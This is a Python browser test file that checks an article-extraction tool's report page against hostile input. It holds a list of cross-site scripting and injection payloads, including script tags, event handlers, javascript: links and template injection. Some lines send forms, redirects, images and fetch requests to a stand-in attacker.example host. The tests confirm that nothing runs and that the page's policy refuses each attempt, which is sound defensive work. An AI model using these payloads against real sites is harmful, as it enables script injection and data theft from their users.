"""An article that attacks its reader: nothing of it runs, and the page's policy would not let it either."""

import json
from pathlib import Path

import pytest

import warextract
from warextract.originals import find_texts
from warextract.readers import find_sources, read_articles
from warextract.report import make_page

from .conftest import Open, Pair, Visit, written

pytestmark = pytest.mark.browser

ATTACKS = (
    "<script>hacked('script')</script>",
    "</script><script>hacked('end of script')</script>",
    "<!--<script>hacked('comment')</script>-->",
    "<img src=x onerror=hacked('img')>",
    "<svg onload=hacked('svg')><a xlink:href='javascript:hacked(1)'>",
    "<iframe srcdoc='<script>parent.hacked(1)</script>'></iframe>",
    '"><b onmouseover="hacked(\'attribute\')">',
    "' autofocus onfocus='hacked(2)",
    "javascript:hacked('link')",
    "[words](javascript:hacked('markdown'))",
    "{{ 7 * 191 }} {% for x in range(9) %} ${hacked('template')} <%= hacked(3) %>",
    "\u2028hacked('line')\u2029",
    "</style><style>body { display: none }</style>",
    "<base href='https://attacker.example/'><meta http-equiv='refresh' content='0;url=https://attacker.example/'>",
    "<form action='https://attacker.example/'><input name=q></form>",
    "&lt;script&gt;hacked('entity')&lt;/script&gt; &#x3c;b&#x3e;",
    "]]><![CDATA[ <?php hacked(); ?>",
)
STORY = "KYIV, March 4 (Reuters) - Russian forces shelled Kharkiv with {}, Kyiv said on Tuesday. Moscow denied it.\n\n"


@pytest.fixture(scope="module")
def hostile_pairs(extractor: warextract.Extractor, tmp_path_factory: pytest.TempPathFactory) -> list[Pair]:
    """Articles with each attack in text and title, source, id and address; and one that is not UTF-8."""
    folder = tmp_path_factory.mktemp("hostile")
    lines = [
        {"id": attack, "title": attack, "source": attack, "url": f"javascript:hacked('url')//{attack}"}
        | {"published": "2025-03-04", "text": STORY.format(attack) + attack}
        for attack in ATTACKS
    ]
    (folder / "attacks.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    (folder / "<img src=x onerror=hacked('name')>.txt").write_bytes(
        STORY.encode() + b"\x93\xff\xfe\xc3( <script>hacked()</script>"
    )
    found = [each for each in read_articles(find_sources([folder])) if isinstance(each, warextract.Article)]
    assert len(found) == len(ATTACKS) + 1
    return list(find_texts([extractor.extract(article) for article in found]))


@pytest.fixture
def visit(open_page: Open, hostile_pairs: list[Pair], tmp_path: Path) -> Visit:
    broken = [(record, f"\ud800\udfff{text}\udc00") for record, text in hostile_pairs[:1]]
    page = make_page([*hostile_pairs, *broken], title="".join(ATTACKS))
    return open_page(written(tmp_path, page))


def test_nothing_of_it_runs_or_becomes_markup(visit: Visit, hostile_pairs: list[Pair]) -> None:
    for address in ("#/ledger", "#/timeline", "#/map", *(f"#/article/{n}" for n in range(len(hostile_pairs) + 1))):
        visit.go(address)
        visit.page.evaluate("document.querySelectorAll('.unfold').forEach((button) => button.click())")
        elements = visit.page.evaluate(
            """() => {
              const forbidden = "iframe, img, b[onmouseover], form[action], base, [onerror], [onload], [onfocus]";
              return [...document.querySelectorAll(forbidden)].map((each) => each.outerHTML);
            }"""
        )
        assert elements == []
        assert visit.number("script") == 2
        assert visit.number("style") == 1
        assert visit.page.evaluate("[...document.querySelectorAll('a')].every((a) => !/^javascript/i.test(a.href))")
        assert visit.page.evaluate("typeof globalThis.hacked") == "undefined"
    assert "1337" not in visit.page.content().partition('id="data"')[0]


def test_its_words_are_shown_as_they_are(visit: Visit, hostile_pairs: list[Pair]) -> None:
    for number, (record, text) in enumerate(hostile_pairs):
        visit.go(f"#/article/{number}")
        shown = visit.page.locator(".text").evaluate("(text) => text.textContent")
        assert "".join(shown.split()) == "".join((text or "").split())
        if record.article.title:
            heading = visit.page.locator(".paper h2").evaluate("(heading) => heading.textContent")
            assert heading.split() == record.article.title.split()
    assert visit.page.locator("body").is_visible()


def test_the_policy_forbids_what_the_page_would_let_through(
    open_page: Open, hostile_pairs: list[Pair], tmp_path: Path
) -> None:
    visit = open_page(written(tmp_path, make_page(hostile_pairs)))
    refused = visit.page.evaluate(
        """async () => {
          const refused = [];
          addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
          const attempt = (name, act) => { try { act(); } catch { refused.push(name); } };
          attempt("markup", () => { document.body.innerHTML += "<b>x</b>"; });
          attempt("script text", () => {
            const script = document.createElement("script");
            script.textContent = "globalThis.hacked = true";
            document.body.append(script);
          });
          attempt("handler", () => document.body.setAttribute("onclick", "globalThis.hacked = true"));
          document.body.click();
          attempt("link", () => {
            const link = document.createElement("a");
            link.href = "javascript:globalThis.hacked = true";
            document.body.append(link);
            link.click();
          });
          const style = document.createElement("style");
          style.textContent = "body { display: none }";
          document.head.append(style);
          const image = new Image();
          image.src = "https://attacker.example/x.png";
          await fetch("https://attacker.example/").catch(() => refused.push("fetch"));
          await new Promise((done) => setTimeout(done, 300));
          return refused;
        }"""
    )
    visit.said.clear()  # the browser complained of each attempt, as it should
    visit.requested.clear()  # Playwright lists what was refused too
    assert visit.page.evaluate("typeof globalThis.hacked") == "undefined"
    assert {"markup", "script text", "fetch", "img-src", "style-src-elem", "connect-src"} <= set(refused)
    assert visit.page.locator("body").is_visible()
